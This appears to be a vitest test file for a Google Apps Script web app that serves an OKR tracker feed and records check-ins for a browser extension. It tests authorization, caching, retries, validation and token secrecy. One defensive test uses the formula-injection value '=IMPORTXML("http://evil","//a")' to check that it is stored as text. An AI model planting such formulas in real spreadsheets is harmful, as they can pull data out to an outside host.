// The web app as the extension uses it: doGet/doPost of the built Code.js over a tracker set up
// by the add-on's own action. Google cannot be reached, so the runtime stands in for it.
import { readFileSync } from 'node:fs';
import { afterEach, describe, expect, it } from 'vitest';
import Ajv2020 from 'ajv/dist/2020.js';
import { get, newTracker, post, publish, type Tracker } from './harness.js';

const schema = JSON.parse(readFileSync(new URL('../../shared/feed.schema.json', import.meta.url), 'utf8'));

let tracker: Tracker | undefined;
afterEach(() => tracker?.runtime.destroy());

function published(): { tracker: Tracker; token: string } {
  tracker = newTracker();
  return { tracker, token: publish(tracker) };
}

const checkIn = (token: string, extra: Record<string, unknown> = {}) => ({ token, id: 'KR6', value: 7, confidence: 8, note: 'Two more signed', requestId: `req-${Math.random().toString(36).slice(2, 12)}`, ...extra });

describe('GET: the feed', () => {
  it('validates against the feed schema', () => {
    const { tracker, token } = published();
    const feed = get(tracker, { token });
    const ajv = new Ajv2020({ allErrors: true, strict: true, allowUnionTypes: true });
    const valid = ajv.validate(schema, feed);
    expect(ajv.errors ?? []).toEqual([]);
    expect(valid).toBe(true);
    expect(feed.keyResults).toHaveLength(6);
  });

  it('agrees with the grades the sheet computes', () => {
    const { tracker, token } = published();
    const feed = get(tracker, { token });
    const sheet = Object.fromEntries(tracker.records('Key Results').map((r) => [r.ID, r.Grade]));
    for (const kr of feed.keyResults) expect(kr.grade).toBeCloseTo(sheet[kr.id] as number, 12);
    expect(feed.keyResults.filter((k: any) => k.due).map((k: any) => k.id)).toEqual(['KR2', 'KR4', 'KR5', 'KR6']);
    const objectives = Object.fromEntries(tracker.records('Objectives').map((r) => [r.ID, [r.Grade, r.Status]]));
    expect(feed.objectives).toHaveLength(4);
    for (const o of feed.objectives) {
      expect(o.grade).toBeCloseTo(objectives[o.id][0] as number, 12);
      expect(o.status).toBe(String(objectives[o.id][1]).toLowerCase().replace(' ', '-'));
    }
    const kpis = Object.fromEntries(tracker.records('KPIs').map((r) => [r.ID, r.Status]));
    for (const k of feed.kpis) expect(k.status).toBe(String(kpis[k.id]).toLowerCase());
  });

  it.each([
    [{}, 'unauthorized', 'missing'],
    [{ token: 'wrong-token' }, 'unauthorized', 'wrong'],
  ])('refuses %j with %s', (query, code, words) => {
    const { tracker } = published();
    const answer = get(tracker, query as Record<string, string>);
    expect(answer.error.code).toBe(code);
    expect(answer.error.message).toContain(words);
  });

  it('says how to publish when the tracker has no token yet', () => {
    tracker = newTracker();
    expect(get(tracker, { token: 'anything' }).error.message).toContain('Publish for the browser extension');
  });

  it('answers a second request from the cache without reading the sheet', () => {
    const { tracker, token } = published();
    get(tracker, { token });
    tracker.runtime.calls.reset();
    const again = get(tracker, { token });
    expect(again.version).toBe(1);
    expect(tracker.runtime.calls.count('Range.getValues')).toBe(0);
  });
});

describe('POST: a check-in', () => {
  it('appends one row to the log and answers with the updated key result', () => {
    const { tracker, token } = published();
    const before = tracker.records('Check-ins').length;
    const answer = post(tracker, checkIn(token));
    expect(answer.ok).toBe(true);
    expect(answer.keyResult.id).toBe('KR6');
    expect(answer.keyResult.current).toBe(7);
    expect(answer.keyResult.grade).toBeCloseTo(7 / 12, 12);
    const log = tracker.records('Check-ins');
    expect(log).toHaveLength(before + 1);
    expect(log.at(-1)).toMatchObject({ ID: 'KR6', Value: 7, Confidence: 8, Note: 'Two more signed', 'Request ID': answer.checkIn.requestId });
  });

  it('is safe to retry: a known request ID writes nothing and returns the original', () => {
    const { tracker, token } = published();
    const request = checkIn(token);
    const first = post(tracker, request);
    const count = tracker.records('Check-ins').length;
    const second = post(tracker, { ...request, value: 999 });
    expect(second.duplicate).toBe(true);
    expect(second.checkIn).toEqual(first.checkIn);
    expect(tracker.records('Check-ins')).toHaveLength(count);
  });

  it('serves the new value in the feed at once (the cache follows writes)', () => {
    const { tracker, token } = published();
    get(tracker, { token });
    const answer = post(tracker, checkIn(token, { value: 9 }));
    const kr6 = get(tracker, { token }).keyResults.find((k: any) => k.id === 'KR6');
    expect(kr6.current).toBe(9);
    // The answer is computed from the key result's own rows only; it must equal the full feed's entry.
    expect(answer.keyResult).toEqual(kr6);
    const kpi = post(tracker, checkIn(token, { id: 'KPI4', value: 520 }));
    expect(kpi.kpi).toEqual(get(tracker, { token }).kpis.find((k: any) => k.id === 'KPI4'));
    expect(kpi.kpi.status).toBe('healthy');
  });

  it('loses none of 50 interleaved check-ins', () => {
    const { tracker, token } = published();
    const before = tracker.records('Check-ins').length;
    const ids = ['KR1', 'KR2', 'KR3', 'KR6', 'KPI1'];
    const requests = Array.from({ length: 50 }, (_, i) => checkIn(token, { id: ids[i % ids.length], value: i / 100, requestId: `interleaved-${i}` }));
    for (const r of requests) expect(post(tracker, r).ok).toBe(true);
    for (const r of requests.slice(0, 10)) expect(post(tracker, r).duplicate).toBe(true);
    const log = tracker.records('Check-ins').slice(before);
    expect(log.map((r) => r['Request ID']).sort()).toEqual(requests.map((r) => r.requestId).sort());
  });

  it.each([
    ['not JSON', '{"token":', 'bad-request', 'not valid JSON'],
    ['an array', '[]', 'bad-request', 'JSON object'],
    ['too large', JSON.stringify({ note: 'x'.repeat(20_000) }), 'bad-request', 'too large'],
    ['no token', { token: undefined, id: 'KR1', value: 1, requestId: 'abcdefgh1' }, 'unauthorized', 'missing'],
    ['a wrong token', { token: 'nope', id: 'KR1', value: 1, requestId: 'abcdefgh1' }, 'unauthorized', 'wrong'],
    ['an unknown ID', { id: 'KR99', value: 1, requestId: 'abcdefgh1' }, 'not-found', 'KR99'],
    ['a non-numeric value', { id: 'KR1', value: 'lots', requestId: 'abcdefgh1' }, 'bad-request', 'takes a number'],
    ['a bad milestone value', { id: 'KR5', value: 'soon', requestId: 'abcdefgh1' }, 'bad-request', 'not a progress'],
    ['no request ID', { id: 'KR1', value: 1 }, 'bad-request', 'requestId'],
    ['a confidence of 11', { id: 'KR1', value: 1, confidence: 11, requestId: 'abcdefgh1' }, 'bad-request', '1 to 10'],
  ])('refuses %s', (_name, body, code, words) => {
    const { tracker, token } = published();
    const before = tracker.records('Check-ins').length;
    const withToken = typeof body === 'string' ? body : { token, ...(body as object) };
    const answer = post(tracker, withToken);
    expect(answer.error.code).toBe(code);
    expect(answer.error.message).toContain(words);
    expect(tracker.records('Check-ins')).toHaveLength(before);
  });

  it('stores text that looks like a formula as text', () => {
    const { tracker, token } = published();
    post(tracker, checkIn(token, { note: '=IMPORTXML("http://evil","//a")' }));
    const sheet = tracker.spreadsheet.getSheetByName('Check-ins')!;
    const last = sheet.getLastRow();
    expect(sheet.getRange(last, 1, 1, 7).getFormulas()[0].every((f) => f === '')).toBe(true);
    expect(tracker.records('Check-ins').at(-1)!.Note).toBe('=IMPORTXML("http://evil","//a")');
  });

  it('answers conflict when the tracker stays locked', () => {
    const { tracker, token } = published();
    tracker.runtime.locks.holdScriptLock();
    expect(post(tracker, checkIn(token)).error.code).toBe('conflict');
  });

  it('never echoes the token in errors or logs', () => {
    const { tracker, token } = published();
    const answers = [get(tracker, { token: `${token}x` }), post(tracker, { token: `${token}x`, id: 'KR1', value: 1, requestId: 'abcdefgh1' }), post(tracker, checkIn(token, { id: 'nope' }))];
    for (const answer of answers) expect(JSON.stringify(answer)).not.toContain(token);
    expect(tracker.runtime.logs.join('\n')).not.toContain(token);
  });
});
